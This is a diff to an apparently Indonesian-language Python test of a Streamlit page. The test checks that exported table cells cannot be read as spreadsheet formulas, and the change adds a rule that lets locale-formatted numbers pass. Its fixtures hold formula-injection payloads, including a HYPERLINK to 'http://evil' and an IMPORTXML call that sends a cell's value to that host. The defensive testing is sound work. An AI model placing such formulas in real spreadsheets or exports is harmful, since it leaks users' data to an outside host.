@@ -35,6 +35,8 @@ NAMA_RUMUS = '=HYPERLINK("http://evil";"klik") a;=cmd.csv'
 CATATAN = 'Lihat a;=HYPERLINK("http://evil","klik") dan 1,=cmd'
 REFERENSI = '=IMPORTXML(CONCAT("http://evil/?",A1),"//a")'
 _SESUDAH_PEMISAH = re.compile(r"[;,] *[=+\-@\t\r].", re.DOTALL)
+# A number the page formatted through Babel ("-68,67", "1.234,5"): a spreadsheet reads it as a number.
+_ANGKA_BABEL = re.compile(r"[-−]?\d{1,3}(\.\d{3})*(,\d+)?")
 
 
 def _sesi(nama: str) -> dict[str, object]:
@@ -51,7 +53,8 @@ def _sel_berbahaya(at: AppTest) -> list[str]:
     """Text cells of every table on the page that a spreadsheet would read as a formula."""
     sel = [v for df in at.dataframe for kolom in df.value.columns for v in df.value[kolom] if isinstance(v, str)]
     assert sel
-    return [v for v in sel if et.berbahaya(v) or _SESUDAH_PEMISAH.search(v)]
+    teks = [v for v in sel if not _ANGKA_BABEL.fullmatch(v)]
+    return [v for v in teks if et.berbahaya(v) or _SESUDAH_PEMISAH.search(v)]
 
 
 def _tanpa_markdown_aktif(teks: list[str]) -> None:
